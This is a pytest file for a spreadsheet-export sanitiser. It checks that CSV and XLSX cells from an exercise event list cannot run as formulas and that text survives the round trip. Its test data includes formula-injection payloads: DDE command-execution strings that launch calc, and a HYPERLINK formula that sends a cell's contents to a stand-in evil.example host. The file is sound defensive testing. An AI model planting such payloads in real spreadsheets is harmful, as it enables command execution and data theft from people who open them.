"""Formula injection: no cell the project writes can run in a spreadsheet, and text survives.

One rule (``sim.cellsafe``, OWASP's CSV injection list: a leading ``=``, ``+``, ``-``, ``@``, tab
or carriage return) for every CSV and workbook written; reading a sheet back takes off exactly
the apostrophe that writing put on, so the MSEL round trip keeps texts such as ``-5 km``.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sim.cellsafe import FORMULA_START, neutralise_cell, neutralise_frame, restore_cell
from sim.exercise import load_exercise_text
from sim.exercise.msel import import_msel, render_msel

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5 km",
    "=x",
    "'=x",
    "''",
    "'+",
]
HARMLESS = ["plain", "'t is", "'", "", "5 - 3", " =1+1", "T+01:00", "{capability: NH90, units: -1}"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    cell = neutralise_cell(text)
    assert cell[:1] not in FORMULA_START
    assert cell.startswith("'")
    assert restore_cell(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise_cell(text) == text
    assert restore_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize("value", [-5, -2.5, 0, 3, None, True])
def test_numbers_stay_numbers(value: object) -> None:
    assert neutralise_cell(value) is value


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", " "]), max_size=6)
)
def test_neutralise_then_restore_is_the_identity(text: str) -> None:
    cell = neutralise_cell(text)
    assert cell[:1] not in FORMULA_START
    assert restore_cell(cell) == text


def test_data_frame_text_cells_and_names_are_neutralised_numbers_are_not() -> None:
    frame = pd.DataFrame(
        {
            "title": ["=HYPERLINK(1)", "fine", "-5 km", None],
            "delta": [-5, 3, -1, 0],
            "share": [-0.5, 0.1, 0.2, float("nan")],
            "=mixed": ["@x", 1, -2.0, "ok"],
        }
    )
    out = neutralise_frame(frame)
    assert list(out["title"])[:3] == ["'=HYPERLINK(1)", "fine", "'-5 km"]
    assert out["delta"].dtype == frame["delta"].dtype and list(out["delta"]) == [-5, 3, -1, 0]
    assert out["share"].dtype == frame["share"].dtype
    assert list(out["'=mixed"])[:3] == ["'@x", 1, -2.0]
    assert frame["title"].iloc[0] == "=HYPERLINK(1)", "the input frame is not changed"
    rows = list(csv.reader(io.StringIO(out.to_csv(index=False))))
    assert rows[1][1] == "-5", "a negative number is written as a number"
    for row in rows:
        assert all(cell[:1] not in FORMULA_START or _is_number(cell) for cell in row), row


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


EXERCISE = """\
exercise:
  id: attack
  title: '=HYPERLINK("http://evil.example")'
  duration: T+10:00
  start: 2026-04-20T12:45:00+02:00
  objectives: [{id: O1, text: "@SUM(1)"}]
injects:
  - {id: 1, time: T+01:00, type: information, title: "=cmd|' /C calc'!A0", message: "-5 km",
     notes: "+31 6 12345678", to: "@home", from: "'=x", expected_action: "\\t=1+1", method: "''"}
  - {id: 2, time: T+02:00, type: information, title: "'t is", message: "- bullet\\n- list"}
"""


def _exercise_file(tmp_path: Path) -> Path:
    path = tmp_path / "attack.yaml"
    path.write_text(EXERCISE, encoding="utf-8")
    return path


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_msel_csv_has_no_cell_a_spreadsheet_would_run(lang: str) -> None:
    data = render_msel(load_exercise_text(EXERCISE), "csv", lang)  # type: ignore[arg-type]
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if lang == "nl" else ","))
    cells = [cell for row in rows for cell in row]
    assert all(cell[:1] not in FORMULA_START for cell in cells), cells
    assert "'=cmd|' /C calc'!A0" in cells and "'-5 km" in cells and "'@home" in cells


def test_msel_xlsx_stores_formula_like_text_as_quoted_text() -> None:
    data = render_msel(load_exercise_text(EXERCISE), "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    checked = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_START:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
                    checked += 1
    assert checked >= 7  # title, message, notes, to, expected action, workbook title, objective


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_texts_round_trip_exactly(suffix: str, tmp_path: Path) -> None:
    source = _exercise_file(tmp_path)
    original = load_exercise_text(EXERCISE)
    sheet = tmp_path / f"msel{suffix}"
    sheet.write_bytes(render_msel(original, suffix.lstrip(".")))
    result = import_msel(sheet, into=source)
    assert result.exercise.injects == original.injects


def test_hand_typed_apostrophe_in_a_csv_reads_as_excel_reads_it(tmp_path: Path) -> None:
    sheet = tmp_path / "typed.csv"
    sheet.write_text(
        "number,scenario time,type,title,message\n1,T+01:00,information,'=SUM(1),'t is fine\n",
        encoding="utf-8",
    )
    injects = import_msel(sheet).exercise.injects
    assert injects[0].title == "=SUM(1)" and injects[0].message == "'t is fine"
